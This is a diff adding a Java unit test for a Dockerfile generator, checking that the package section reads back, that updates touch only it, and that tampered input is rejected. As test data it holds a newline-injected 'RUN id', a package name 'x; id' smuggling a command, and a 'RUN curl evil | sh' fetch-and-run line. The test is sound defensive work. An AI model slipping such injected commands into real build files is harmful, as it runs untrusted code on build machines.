@@ -78,4 +78,24 @@ class DockerfileGeneratorTest {
         assertThatThrownBy(() -> new CatalogueEntry("Pytorch", "2.8", List.of(), "evil\nRUN id"))
                 .hasMessageContaining("not a catalogue row");
     }
+
+    @Test
+    void thePackagesSectionReadsBackAndAnUpdateChangesOnlyIt() {
+        ImageRecipe recipe = recipe(UseCase.CV, pip(UseCase.CV.packages()), List.of("libgl1"));
+        String dockerfile = DockerfileGenerator.generate(recipe, ALICE, WHEN);
+        assertThat(DockerfileGenerator.readPackages(dockerfile)).isEqualTo(recipe.layers());
+
+        List<ImageRecipe.Layer> updated = Updates.apply(recipe.layers(), List.of("rich", "Timm>=1.0"), List.of("kornia"));
+        String changed = DockerfileGenerator.withPackages(dockerfile, updated);
+        assertThat(changed).contains("\"Timm>=1.0\"", "# Added later\nRUN pip install --no-cache-dir \"rich\"\n")
+                .doesNotContain("kornia").doesNotContain("\"timm\"");
+        String outside = dockerfile.substring(0, dockerfile.indexOf(DockerfileGenerator.BEGIN_PACKAGES));
+        assertThat(changed).startsWith(outside).endsWith(dockerfile.substring(dockerfile.indexOf(DockerfileGenerator.END_PACKAGES)));
+        assertThatThrownBy(() -> Updates.apply(recipe.layers(), List.of(), List.of("tensorflow")))
+                .hasMessageContaining("no package tensorflow");
+        assertThatThrownBy(() -> Updates.apply(recipe.layers(), List.of("x; id"), List.of()))
+                .hasMessageContaining("is not a pip package");
+        assertThatThrownBy(() -> DockerfileGenerator.readPackages(dockerfile.replace("RUN pip install --no-cache-dir \"timm\"",
+                "RUN curl evil | sh"))).hasMessageContaining("did not write");
+    }
 }
